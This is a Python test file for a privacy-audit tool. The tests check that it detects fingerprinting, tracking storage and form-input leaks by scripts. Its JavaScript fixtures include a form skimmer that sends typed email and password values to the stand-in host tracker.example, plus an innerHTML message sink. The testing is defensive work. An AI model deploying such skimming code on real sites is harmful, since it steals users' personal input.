"""What scripts do and keep, and who hears what is typed: a real browser, a site and a tracker."""

from __future__ import annotations

import hashlib
import ssl

import pytest
import trustme
from aiohttp import web

from tests.collect_site import HOST, Handler, Remembered, html, served
from veritas.artifacts import PageArtifact, ScriptAct
from veritas.collect.scout import collect
from veritas.collect.settings import CollectSettings
from veritas.core.audit import AuditRequest, Tier

pytestmark = pytest.mark.browser

TRACKER = "tracker.example"
# One script that does much: it reads a canvas, the graphics card, fonts; listens; keeps; sends.
BUSY = """
const canvas = document.createElement('canvas'); canvas.width = 200; canvas.height = 50;
const pen = canvas.getContext('2d'); pen.fillText('How quickly daft jumping zebras', 2, 2);
for (let n = 0; n < 60; n++) { pen.font = `${n + 5}px x`; pen.measureText('m'); }
for (let n = 0; n < 12; n++) canvas.toDataURL();
navigator.hardwareConcurrency;
document.addEventListener('keydown', () => {});
window.addEventListener('message', (event) => { document.body.innerHTML = event.data; });
window.addEventListener('message', (event) => { if (event.origin === 'https://a.test') go(); });
localStorage.setItem('visitor', 'abcdef'); sessionStorage.setItem('tab', '1');
document.cookie = 'uid=42; path=/; max-age=100000';
indexedDB.open('profile');
navigator.sendBeacon('http://tracker.example/beat', 'x');
setTimeout('1 + 1', 1);
eval("document.addEventListener('keyup', () => {})");
new Function("sessionStorage.setItem('made', '1')")();
"""


def code(text: str) -> Handler:
    async def answer(_: web.Request) -> web.Response:
        return web.Response(text=text, content_type="text/javascript")

    return answer


async def read(
    body: str, script: str = "", tier: Tier = Tier.QUICK_SCAN, heard: list[str] | None = None
) -> PageArtifact:
    async def listen(request: web.Request) -> web.Response:
        if heard is not None:
            heard.append(request.query_string)
        headers = {"Set-Cookie": "seen=1; SameSite=None; Secure; Max-Age=99999"}
        return web.Response(text="ok", headers=headers)

    async with (
        served({"/": html(body)}) as own,
        served({"/t.js": code(script), "/hear": listen}, host=TRACKER) as other,
    ):
        collected = await collect(
            AuditRequest(f"http://{HOST}/", tier),
            CollectSettings(connect_to=(*own, *other), mobile=False),
            Remembered(),
        )
    return collected.artifacts.pages[0]


def acts(page: PageArtifact, api: str) -> list[ScriptAct]:
    return [act for act in page.acts if act.api == api]


async def test_what_a_foreign_script_does_is_told_with_its_address() -> None:
    page = await read(f"<p>Hello</p><script src=http://{TRACKER}/t.js></script>", BUSY)
    (canvas,) = acts(page, "canvas.toDataURL")
    assert canvas == ScriptAct(
        api="canvas.toDataURL",
        script_url=f"http://{TRACKER}/t.js",
        frame_url=f"http://{HOST}/",
        domain=TRACKER,
        third_party=True,
        detail="200x50 text 31",
        count=10,
    )
    assert [act.detail for act in acts(page, "canvas.fonts")] == ["20", "50"]
    assert [act.detail for act in acts(page, "device.read")] == ["hardwareConcurrency"]
    assert [act.detail for act in acts(page, "listen.keys")] == ["document"]
    assert sorted(act.detail for act in acts(page, "listen.message")) == ["origin", "sink"]
    assert [act.detail for act in acts(page, "send.beacon")] == [TRACKER]
    assert [act.detail for act in acts(page, "storage.cookie")] == ["uid"]
    assert acts(page, "code.text")
    made = acts(page, "code.eval")
    assert [act.detail for act in made] == ["listen.keys", "storage.session"]
    assert {act.script_url for act in made} == {f"http://{TRACKER}/t.js"}


async def test_what_is_kept_is_listed_without_its_values() -> None:
    page = await read(f"<p>Hello</p><script src=http://{TRACKER}/t.js></script>", BUSY)
    kept = {(item.kind, item.name): item for item in page.storage}
    assert set(kept) >= {("local", "visitor"), ("session", "tab"), ("indexeddb", "profile")}
    assert kept["local", "visitor"].size_chars == 6
    cookie = kept["cookie", "uid"]
    assert (cookie.host, cookie.third_party) == (HOST, False)
    assert cookie.expires_s is not None
    assert 90_000 < cookie.expires_s < 100_001
    assert "abcdef" not in str(page.storage)


async def test_the_page_s_own_script_is_its_own() -> None:
    page = await read("<script>localStorage.setItem('a', 'b')</script><p>x</p>")
    (act,) = acts(page, "storage.local")
    assert (act.script_url, act.third_party) == (f"http://{HOST}/", False)


async def test_watching_changes_nothing_that_a_page_relies_on() -> None:
    page = await read(
        """<p id=out></p><script>
        const sees = [
          HTMLCanvasElement.prototype.toDataURL.toString().includes('[native code]'),
          Function.prototype.toString.toString().includes('[native code]'),
          HTMLCanvasElement.prototype.toDataURL.name === 'toDataURL',
          document.createElement('canvas').toDataURL().startsWith('data:image/png'),
          Object.keys(window).every((name) => !/^_[0-9a-f]{16}$/.test(name)),
          (() => {
            try { localStorage.setItem(); } catch (e) { return e.name === 'TypeError'; }
          })(),
        ];
        let heard = 0;
        const once = { handleEvent() { heard++; } };
        document.addEventListener('keydown', once); document.addEventListener('keydown', once);
        document.dispatchEvent(new Event('keydown'));
        document.removeEventListener('keydown', once);
        document.dispatchEvent(new Event('keydown'));
        document.getElementById('out').textContent = [...sees, heard === 1].join(' ');
        </script>"""
    )
    assert [text.text for text in page.texts] == ["true true true true true true true"]


async def test_a_page_that_floods_the_watcher_is_cut_and_still_read() -> None:
    page = await read(
        """<p>Still here</p><script>
        for (let n = 0; n < 5000; n++) localStorage.setItem('k' + n, '1');
        </script>"""
    )
    assert [text.text for text in page.texts] == ["Still here"]
    assert 100 < len(page.acts) <= 1000


FORM = """
<form action=/send><input type=email name=mail><input type=text name=who>
<input type=password name=secret><button>Send</button></form>
"""
HASHES = f"""
const tell = (value) => {{ new Image().src = 'http://{TRACKER}/hear?' + value; }};
document.querySelector('[name=mail]').addEventListener('blur', (e) => tell(btoa('x' + e.target.value)));
document.querySelector('[name=who]').addEventListener('input', (e) => tell(encodeURIComponent(e.target.value)));
document.querySelector('[name=secret]').addEventListener('input', (e) => tell('secret=' + e.target.value));
document.querySelector('form').addEventListener('submit', () => tell('submitted'));
"""  # noqa: E501


async def test_who_is_told_what_is_typed_before_it_is_sent() -> None:
    heard: list[str] = []
    body = f"{FORM}<script src=http://{TRACKER}/t.js></script>"
    page = await read(body, HASHES, Tier.STANDARD_AUDIT, heard)
    assert page.leaks is not None
    assert sorted((leak.host, leak.form) for leak in page.leaks) == [
        (TRACKER, "base64"),
        (TRACKER, "plain"),
    ]
    assert all(leak.selector for leak in page.leaks)
    assert heard
    assert not any("secret" in query or "submitted" in query for query in heard)


async def test_a_form_that_tells_nobody_leaks_nothing() -> None:
    page = await read(FORM, "", Tier.STANDARD_AUDIT)
    assert page.leaks == ()
    quick = await read(FORM, "", Tier.QUICK_SCAN)
    assert quick.leaks is None  # nothing was typed


@pytest.mark.parametrize("prefix", ["", "a", "ab", "abc", "id="])
def test_every_form_of_a_value_is_recognised(prefix: str) -> None:
    import base64

    from veritas.collect.canary import _Value

    value = _Value("#mail", "canary-0123456789ab@veritas.invalid")
    raw = value.text.encode()
    assert value.seen_in(f"q={prefix}{value.text.upper()}&x") == "plain"
    assert value.seen_in(base64.b64encode(prefix.encode() + raw + b"&x").decode()) == "base64"
    assert value.seen_in(hashlib.sha256(raw).hexdigest().upper()) == "sha256"
    assert value.seen_in(hashlib.md5(raw).hexdigest()) == "md5"
    assert value.seen_in("nothing of it") == ""


async def test_pages_that_robots_txt_closes_are_left_alone_unless_told_otherwise() -> None:
    opened: list[str] = []
    agents: set[str] = set()

    def told(name: str) -> Handler:
        async def answer(request: web.Request) -> web.Response:
            opened.append(name)
            agents.add(request.headers["User-Agent"])
            return await html(f"<p>{name}</p>")(request)  # type: ignore[return-value]

        return answer

    async def robots(_: web.Request) -> web.Response:
        return web.Response(text="User-agent: *\nDisallow: /cart\n")

    routes = {
        "/": html("<a href=/cart>Cart</a> <a href=/imprint>Imprint</a>"),
        "/cart": told("cart"),
        "/imprint": told("imprint"),
        "/robots.txt": robots,
    }
    async with served(routes) as rules:
        for settings, expected in (
            (CollectSettings(connect_to=rules, mobile=False), ["imprint"]),
            (
                CollectSettings(
                    connect_to=rules, mobile=False, ignore_robots=True, user_agent="plain"
                ),
                ["cart", "imprint"],
            ),
        ):
            opened.clear()
            agents.clear()
            observer = Remembered()
            await collect(AuditRequest(f"http://{HOST}/", Tier.STANDARD_AUDIT), settings, observer)
            assert sorted(opened) == expected
            named = all("Veritas/" in agent for agent in agents)
            assert named is not settings.ignore_robots
            assert any("robots.txt" in note for note in observer.notes) is named


SETS = """
document.cookie = 'visitor=v4lue; path=/; max-age=100000';
document.cookie = 'v4lue-without-a-name';
for (let n = 0; n < 50; n++) document.cookie = 'tick=' + n + 'v4lue';
cookieStore.set('modern', 'v4lue');
cookieStore.set({name: 'options', value: 'v4lue', sameSite: 'lax', path: '/'});
localStorage.setItem('profile', 'v4lue');
caches.open('offline');
document.onkeydown = () => {};
window.onmessage = (event) => { document.title = event.data; };
navigator.serviceWorker.register('/worker.js');
"""


async def test_who_set_what_is_kept_and_who_posts_to_whom() -> None:
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)  # cookieStore, caches and workers want https
    trustme.CA().issue_cert(HOST, TRACKER).configure_cert(tls)
    script = f"https://{TRACKER}/t.js"
    body = (
        f"<p>Hello</p><script src={script}></script><iframe src=https://{TRACKER}/frame></iframe>"
    )
    frame = "<script>parent.postMessage('hello', '*'); localStorage.setItem('inner', '1')</script>"

    async def home(request: web.Request) -> web.StreamResponse:
        answer = await html(body)(request)
        answer.headers["Set-Cookie"] = "session=v4lue"
        return answer

    async with (
        served({"/": home}, tls=tls) as own,
        served({"/t.js": code(SETS), "/frame": html(frame)}, tls=tls, host=TRACKER) as other,
    ):
        collected = await collect(
            AuditRequest(f"https://{HOST}/", Tier.QUICK_SCAN),
            CollectSettings(connect_to=(*own, *other), mobile=False),
            Remembered(),
        )
    page = collected.artifacts.pages[0]
    cookies = [(one.way, one.name, one.line) for one in page.script_cookies]
    assert cookies == [
        ("document.cookie", "visitor", "visitor=…; path=/; max-age=100000"),
        ("document.cookie", "", "=…"),
        ("document.cookie", "tick", "tick=…"),
        ("cookieStore", "modern", "modern=…"),
        ("cookieStore", "options", "options=…; path=/; sameSite=lax"),
    ]
    assert {(one.script_url, one.third_party) for one in page.script_cookies} == {(script, True)}
    kept = {(item.kind, item.name): item.set_by for item in page.storage}
    assert kept["cookie", "session"] == f"https://{HOST}/"
    for key in [
        ("cookie", "visitor"),
        ("cookie", "modern"),
        ("cookie", "options"),
        ("local", "profile"),
        ("cache", "offline"),
    ]:
        assert kept[key] == script, key
    (posted,) = acts(page, "message.received")
    assert (posted.detail, posted.frame_url) == (f"https://{TRACKER}", f"https://{HOST}/")
    assert [act.detail for act in acts(page, "listen.keys")] == ["document"]
    assert len(acts(page, "listen.message")) == 1
    (worker,) = acts(page, "worker.service")
    assert (worker.script_url, worker.detail) == (script, f"https://{HOST}/worker.js")
    assert "v4lue" not in str(page.script_cookies)
    assert "v4lue" not in str(page.acts)
